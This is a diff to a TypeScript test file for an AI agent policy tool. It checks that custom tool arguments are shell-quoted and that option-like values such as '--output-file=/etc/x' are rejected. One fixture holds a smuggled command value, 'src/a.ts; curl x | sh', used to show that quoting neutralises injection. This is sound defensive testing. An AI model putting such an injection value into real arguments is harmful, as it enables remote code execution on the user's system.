@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -7,7 +8,7 @@ import { loadTask } from '../../src/config/load-task.ts';
 import { loadPolicy } from '../../src/policy/load-policy.ts';
 import { compileCustomTools } from '../../src/run/custom-tools.ts';
 import { toolDefinition } from '../../src/tools/registry.ts';
-import { ROOT } from '../support/run-fixture.ts';
+import { CLI, ROOT } from '../support/run-fixture.ts';
 
 let dir: string;
 beforeEach(() => {
@@ -187,5 +188,53 @@ describe('custom tool declarations', () => {
     const injected = tool?.params.safeParse({ path: '--output-file=/etc/x' });
     expect(injected?.success).toBe(false);
     expect(JSON.stringify(injected?.error?.issues)).toMatch(/starts with \\"-\\"/);
+  });
+});
+
+describe('nightshift policy test and check with custom tools', () => {
+  const nightshift = (...args: string[]) =>
+    spawnSync(process.execPath, ['--import', 'tsx', CLI, ...args], { cwd: ROOT, encoding: 'utf8' });
+
+  it("decides a policy's own tool with the expanded line, and refuses bad arguments as the run would", () => {
+    write(
+      'policy.yaml',
+      `${POLICY}custom_tools:\n  lint:\n${LINT}examples:
+  - { tool: lint, args: { path: "src/a.ts; curl x | sh" }, expect: allow }
+  - { tool: lint, args: { path: "--fix" }, expect: deny, note: an option not a file }
+  - { tool: lint, args: { path: 3 }, expect: deny }
+  - { tool: lint, args: { path: a.ts }, expect: deny, note: wrong on purpose }
+`,
+    );
+    const file = path.join(dir, 'policy.yaml');
+    const test = nightshift('policy', 'test', file);
+    expect(test.stdout).toMatch(/policy\.yaml: 3 passed, 1 failed/);
+    expect(test.stderr).toMatch(/FAIL lint \{"path":"a\.ts"\}: expected deny, got allow \(command\.allow\[0\]/);
+    const check = nightshift(
+      'policy',
+      'check',
+      '--policy',
+      file,
+      '--tool',
+      'lint',
+      '--args',
+      '{"path":"a b.ts"}',
+    );
+    expect(JSON.parse(check.stdout)).toMatchObject({
+      decision: 'allow',
+      rule: 'command.allow[0]',
+      access: [{ kind: 'command', command: "npm run lint -- 'a b.ts'" }],
+    });
+    const bad = nightshift(
+      'policy',
+      'check',
+      '--policy',
+      file,
+      '--tool',
+      'lint',
+      '--args',
+      '{"path":"-x"}',
+    );
+    expect(JSON.parse(bad.stdout)).toMatchObject({ decision: 'deny', rule: 'params' });
+    expect(JSON.parse(bad.stdout).reason).toMatch(/starts with "-"/);
   });
 });
